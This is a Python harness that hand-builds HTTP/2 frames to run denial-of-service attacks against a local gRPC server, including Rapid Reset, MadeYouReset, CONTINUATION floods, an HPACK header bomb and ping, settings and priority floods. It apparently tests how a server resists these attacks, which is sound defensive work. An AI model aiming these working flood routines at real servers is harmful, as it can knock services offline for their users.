"""HTTP/2 as no honest client speaks it, over TLS 1.3: frames made by hand with hyperframe and hpack.

Each attack goes on for at most `--seconds`, or until the server closes the connection, and says in one JSON object what came of it:
whether and after how many seconds it was closed, with which GOAWAY, what was sent, and what was answered.
"""

import argparse
import collections
import json
import os
import socket
import ssl
import time

import hpack
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHECK_IN = "/cartable.v1.Device/CheckIn"
BATCH = 200


class Attack:
    def __init__(self, said):
        self.seconds = said.seconds
        context = ssl.create_default_context(cafile=said.root)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.set_alpn_protocols(["h2"])
        if said.chain:
            context.load_cert_chain(said.chain, said.key)
        tcp = socket.create_connection(("127.0.0.1", said.port), timeout=20)
        tcp.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = context.wrap_socket(tcp, server_hostname="localhost")
        assert self.tls.version() == "TLSv1.3" and self.tls.selected_alpn_protocol() == "h2"
        self.encoder = hpack.Encoder()
        self.begun = time.monotonic()
        self.closed = None
        self.goaway = None
        self.sent = collections.Counter()
        self.got = collections.Counter()
        self.headers = {}
        self.bytes = 0
        self.reads = True
        self.buffer = b""
        self.decoder = hpack.Decoder()
        self.tls.setblocking(False)

    def left(self):
        return self.seconds - (time.monotonic() - self.begun)

    def going(self):
        return self.closed is None and self.left() > 0

    def over(self):
        if self.closed is None:
            self.closed = time.monotonic() - self.begun

    def write(self, data):
        """Sends, reading in between so that neither side waits for the other."""
        view = memoryview(data)
        while view and self.going():
            try:
                count = self.tls.send(view)
                self.bytes += count
                view = view[count:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                self.pause(0.01)
            except OSError:
                self.over()
            self.read()

    def send(self, *all_frames):
        for one in all_frames:
            self.sent[type(one).__name__] += 1
        self.write(b"".join(one.serialize() for one in all_frames))

    def pause(self, seconds):
        """Waits, and reads what comes."""
        end = time.monotonic() + min(seconds, max(self.left(), 0))
        while True:
            self.read()
            if self.closed is not None or time.monotonic() >= end:
                return
            time.sleep(0.005)

    def read(self):
        if not self.reads or self.closed is not None:
            return
        while True:
            try:
                data = self.tls.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                return self.over()
            if not data:
                return self.over()
            self.buffer += data
            self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            one, length = frames.Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            one.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            self.got[type(one).__name__] += 1
            if isinstance(one, frames.GoAwayFrame):
                self.goaway = one.error_code
            if isinstance(one, frames.HeadersFrame):
                self.headers.setdefault(one.stream_id, {}).update(self.decoder.decode(one.data))

    def hello(self, settings=None):
        self.write(PREFACE)
        self.send(frames.SettingsFrame(0, settings=settings or {}))

    def block(self, *more, path=CHECK_IN):
        return self.encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "https"),
                (":path", path),
                (":authority", "localhost"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *more,
            ]
        )

    def call(self, stream, *more, flags=("END_HEADERS",)):
        return frames.HeadersFrame(stream, self.block(*more), flags=list(flags))

    # The attacks.

    def silence(self):
        """Agrees on TLS and says nothing more."""
        self.pause(self.seconds)

    def preface_only(self):
        self.hello()
        self.pause(self.seconds)

    def headers_unended(self):
        """Headers that never end."""
        self.hello()
        self.send(frames.HeadersFrame(1, self.block(), flags=[]))
        self.pause(self.seconds)

    def slow_headers(self):
        """The same, one byte each half second."""
        self.hello()
        block = self.block(("x-padding", "x" * 500))
        self.send(frames.HeadersFrame(1, block[:1], flags=[]))
        for n in range(1, len(block)):
            if not self.going():
                return
            self.send(frames.ContinuationFrame(1, block[n : n + 1], flags=[]))
            self.pause(0.5)

    def slow_body(self):
        """A message of 1,000 bytes of which only the first few come."""
        self.hello()
        self.send(self.call(1), frames.DataFrame(1, b"\0\0\0\x03\xe8" + b"x" * 10))
        while self.going() and 1 not in self.headers and not self.got["RstStreamFrame"]:
            self.pause(0.1)

    def rapid_reset(self):
        """CVE-2023-44487."""
        self.hello()
        stream = 1
        while self.going():
            batch = []
            for _ in range(BATCH):
                batch += [self.call(stream, flags=("END_HEADERS", "END_STREAM")), frames.RstStreamFrame(stream, 8)]
                stream += 2
            self.send(*batch)

    def made_you_reset(self):
        """CVE-2025-8671: the server is brought to reset streams itself."""
        self.hello()
        stream = 1
        while self.going():
            batch = []
            for _ in range(BATCH):
                bad = frames.WindowUpdateFrame(stream, window_increment=1)
                raw = bytearray(bad.serialize())
                raw[-4:] = bytes(4)
                batch += [self.call(stream).serialize(), bytes(raw)]
                self.sent["MadeReset"] += 1
                stream += 2
            self.write(b"".join(batch))

    def continuation_flood(self):
        """CVE-2024-27316 and its kind: headers without an end."""
        self.hello()
        self.send(frames.HeadersFrame(1, self.block(), flags=[]))
        field = b"\x00\x03abc\x7f\x81\x7f" + b"x" * 16000
        while self.going():
            self.send(*[frames.ContinuationFrame(1, field[:16384], flags=[])] * 8)

    def continuation_empty(self):
        self.hello()
        self.send(frames.HeadersFrame(1, self.block(), flags=[]))
        while self.going():
            self.send(*[frames.ContinuationFrame(1, b"", flags=[])] * BATCH)

    def headers_large(self):
        """One header of 12 KiB more than any honest call has."""
        self.hello()
        block = self.block(("x-padding", os.urandom(6144).hex()))
        parts = [block[n : n + 16000] for n in range(0, len(block), 16000)]
        self.send(frames.HeadersFrame(1, parts[0], flags=["END_HEADERS"] if len(parts) == 1 else []))
        for n, part in enumerate(parts[1:], 2):
            self.send(frames.ContinuationFrame(1, part, flags=["END_HEADERS"] if n == len(parts) else []))
        self.answered()

    def header_bomb(self):
        """A field of 3,900 bytes kept in the table and named 10,000 times: 40 MB out of 10 KB."""
        self.hello()
        first = self.block(("x-bomb", "y" * 3900))
        self.send(frames.HeadersFrame(1, first + b"\xbe" * 10_000, flags=["END_HEADERS", "END_STREAM"]))
        self.answered()

    def streams_many(self):
        """A hundred calls at once, none of which ends."""
        self.hello()
        self.pause(0.3)
        self.send(*[self.call(stream) for stream in range(1, 201, 2)])
        self.pause(min(self.seconds, 3))

    def message_large(self):
        """A message of 1 MiB, said to be so large."""
        self.hello()
        self.send(self.call(1), frames.DataFrame(1, b"\0" + (1 << 20).to_bytes(4, "big") + b"x" * 8192))
        self.answered()

    def message_lies(self):
        """A message said to have 4 GiB."""
        self.hello()
        self.send(self.call(1), frames.DataFrame(1, b"\0\xff\xff\xff\xff" + b"x" * 8192))
        self.answered()

    def window_overflow(self):
        self.hello()
        self.send(*[frames.WindowUpdateFrame(0, window_increment=2**31 - 1)] * 2)
        self.pause(self.seconds)

    def window_ignored(self):
        """More data than the window allows."""
        self.hello()
        self.send(self.call(1), *[frames.DataFrame(1, bytes(16384))] * 64)
        self.answered()

    def ping_flood(self):
        self.hello()
        while self.going():
            self.send(*[frames.PingFrame(0, b"flooding")] * BATCH)

    def ping_unread(self):
        """Pings whose answers nobody reads (CVE-2019-9512)."""
        self.hello()
        self.reads = False
        while self.going():
            self.send(*[frames.PingFrame(0, b"flooding")] * BATCH)

    def settings_flood(self):
        """CVE-2019-9515."""
        self.hello()
        while self.going():
            self.send(*[frames.SettingsFrame(0, settings={4: 65535})] * BATCH)

    def settings_unread(self):
        self.hello()
        self.reads = False
        while self.going():
            self.send(*[frames.SettingsFrame(0, settings={4: 65535})] * BATCH)

    def data_empty(self):
        """CVE-2019-9518: data frames without data."""
        self.hello()
        self.send(self.call(1))
        while self.going():
            self.send(*[frames.DataFrame(1, b"")] * BATCH)

    def window_flood(self):
        """Windows opened byte by byte."""
        self.hello()
        self.send(self.call(1))
        while self.going():
            self.send(*[frames.WindowUpdateFrame(0, window_increment=1)] * BATCH)

    def priority_flood(self):
        """CVE-2019-9513."""
        self.hello()
        stream = 1
        while self.going():
            self.send(*[frames.PriorityFrame(stream + 2 * n, depends_on=0, stream_weight=n) for n in range(BATCH)])
            stream += 2 * BATCH

    def http_1(self):
        self.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        self.pause(self.seconds)

    def rubbish(self):
        self.write(os.urandom(65536))
        self.pause(self.seconds)

    def answered(self):
        while self.going() and not self.headers and not self.got["RstStreamFrame"]:
            self.pause(0.1)

    def outcome(self):
        answer = self.headers.get(1, {})
        return {
            "closed": self.closed,
            "goaway": self.goaway,
            "bytes": self.bytes,
            "sent": self.sent,
            "got": self.got,
            "status": answer.get(":status"),
            "grpc": answer.get("grpc-status"),
            "seconds": time.monotonic() - self.begun,
        }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--root", required=True)
    parser.add_argument("--chain")
    parser.add_argument("--key")
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("attack")
    said = parser.parse_args()
    attack = Attack(said)
    getattr(attack, said.attack)()
    print(json.dumps(attack.outcome()))


if __name__ == "__main__":
    main()
